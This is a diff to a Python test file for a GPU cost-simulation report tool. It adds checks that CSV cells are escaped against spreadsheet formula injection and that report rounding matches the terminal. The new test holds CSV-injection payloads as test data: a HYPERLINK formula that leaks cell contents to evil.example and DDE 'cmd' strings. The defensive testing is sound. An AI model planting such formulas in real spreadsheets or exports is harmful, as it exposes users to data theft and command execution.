@@ -4,6 +4,7 @@ images, markup and formulas kept as text, and writes that are atomic and stay in
 from __future__ import annotations
 
 import csv
+import io
 import json
 import os
 import xml.etree.ElementTree as ET
@@ -16,12 +17,14 @@ from typing import Any
 import pytest
 from openpyxl import load_workbook
 
+from costsim.domain.display import XLSX_HOURS, XLSX_USD_RATE, csv_cell, percent, usd_estimate
 from costsim.report import summary_json, write_report
 from costsim.report.charts import CHART_SUBJECTS, build_charts, missing_charts
 from costsim.report.compare import compare_plans
 from costsim.report.files import write_atomic
-from costsim.report.html import report_html
-from costsim.report.tables import LEDGER_COLUMNS
+from costsim.report.html import report_html, template_environment
+from costsim.report.tables import LEDGER_COLUMNS, Table
+from costsim.report.write import csv_bytes
 from costsim.sim.run_result import RunResult, simulate_scenario
 from tests.report.runs import FORMULA_NAME, SCRIPT_NAME, report_scenario
 
@@ -51,9 +54,10 @@ def test_the_ledger_csv_adds_up_to_each_plans_mean_cost_to_the_cent(
     assert list(rows[0]) == ["plan", "phase", "pool", "gpu", "option", "category",
                              "component", "gpu_hours", "rate_usd_per_gpu_hour", "amount_usd"]
     for plan in _feasible(summary):
-        total = sum(Decimal(r["amount_usd"]) for r in rows if r["plan"] == plan["name"])
+        total = sum(Decimal(r["amount_usd"]) for r in rows if r["plan"] == csv_cell(plan["name"]))
         assert total == Decimal(f"{plan['cost_usd']['mean']:.2f}"), plan["name"]
-    assert {r["plan"] for r in rows} == {p["name"] for p in _feasible(summary)}
+    assert {r["plan"] for r in rows} == {csv_cell(p["name"]) for p in _feasible(summary)}
+    assert "'" + FORMULA_NAME in {r["plan"] for r in rows}  # text, not a formula
 
 
 def test_the_monthly_csv_adds_up_to_each_plans_cash(report_dir: Path,
@@ -61,7 +65,7 @@ def test_the_monthly_csv_adds_up_to_each_plans_cash(report_dir: Path,
     with (report_dir / "monthly.csv").open(encoding="utf-8", newline="") as handle:
         rows = list(csv.DictReader(handle))
     for plan in _feasible(summary):
-        mine = [r for r in rows if r["plan"] == plan["name"]]
+        mine = [r for r in rows if r["plan"] == csv_cell(plan["name"])]
         assert len(mine) == 18
         assert sum(Decimal(r["cash_usd"]) for r in mine) == Decimal(
             f"{plan['cash_usd']['mean']:.2f}")
@@ -106,6 +110,28 @@ def test_a_plan_named_like_a_formula_stays_text_in_the_workbook(report_dir: Path
     formula = [cell for cell in cells if cell.value == FORMULA_NAME]
     assert formula
     assert all(cell.data_type == "s" for cell in formula)
+
+
+HOSTILE_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0",
+                 "@SUM(1+1)*cmd|' /C calc'!A0", "-1+2", "\t=1+1", "plan, with a comma",
+                 'plan "quoted"')
+
+
+def test_no_csv_cell_can_run_in_a_spreadsheet_and_numbers_stay_numbers() -> None:
+    """OWASP's CSV-injection rule: a text cell starting with = + - @ tab or CR gets a quote in
+    front; a credit such as a residual value (-531.11) stays a number."""
+    rows = tuple((name, "train", "", "H100", "owned", "residual-value", "gpu", 0.0, 0.0,
+                  -531.11) for name in HOSTILE_NAMES)
+    data = csv_bytes(Table("ledger", "Ledger", LEDGER_COLUMNS, rows)).decode("utf-8")
+    read = list(csv.reader(io.StringIO(data, newline="")))[1:]
+    assert [row[0] for row in read] == [
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "'+cmd|' /C calc'!A0",
+        "'@SUM(1+1)*cmd|' /C calc'!A0", "'-1+2", "'\t=1+1", "plan, with a comma",
+        'plan "quoted"']
+    assert {row[-1] for row in read} == {"-531.11"}
+    for row in read:
+        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) for cell in row)
+        assert all(cell == "-531.11" or not cell.startswith("-") for cell in row)
 
 
 def test_markup_in_scenario_text_is_escaped_in_the_html(report_dir: Path) -> None:
@@ -238,5 +264,33 @@ def test_the_page_states_the_break_even_utilizations(report_dir: Path, run: RunR
     on_demand = next(r for r in curve.rentals if r.option.value == "on-demand")
     owning = curve.owning_break_even_utilization(on_demand)
     assert owning is not None
-    assert f'<td class="num">{owning * 100:.0f} %</td>' in html
+    assert f'<td class="num">{percent(owning)}</td>' in html
     assert on_demand.instance_type in html
+
+
+def test_the_page_and_the_workbook_round_as_the_terminal(report_dir: Path,
+                                                         summary: dict[str, Any]) -> None:
+    """One rounding (issue 19): P(over budget) 14.5% in the terminal was "14 %" in the page;
+    the ranked table's costs are whole dollars as `run` prints them; the workbook's rates show
+    3 decimals and GPU-hours whole from 100 up, as the text does."""
+    html = (report_dir / "report.html").read_text(encoding="utf-8")
+    shares = [(plan["p_over_budget"], plan["p_deadline_missed"]) for plan in _feasible(summary)]
+    environment = template_environment()
+    assert environment.filters["pct"](0.145) == "14.5%" == percent(0.145)  # was "14 %"
+    assert environment.filters["pct"](0.015) == "1.5%"  # was "2 %"
+    assert environment.filters["estimate"](117401.38) == "$117,401"
+    assert environment.filters["rate"](0.1375) == "$0.138"
+    assert environment.filters["hours"](1234.56) == "1,235"
+    for over, late in shares:
+        for share in (over, late):
+            if share is not None:
+                assert f'<td class="num">{percent(share)}</td>' in html
+    for plan in _feasible(summary):
+        cost = plan["cost_usd"]
+        assert (f'<td class="num">{usd_estimate(cost["p10"])} – {usd_estimate(cost["p90"])}'
+                '</td>') in html
+    book = load_workbook(report_dir / "report.xlsx")
+    header = [cell.value for cell in book["ledger"][1]]
+    row = next(book["ledger"].iter_rows(min_row=2))
+    assert row[header.index("Rate (USD per GPU-hour)")].number_format == XLSX_USD_RATE
+    assert row[header.index("GPU-hours")].number_format == XLSX_HOURS
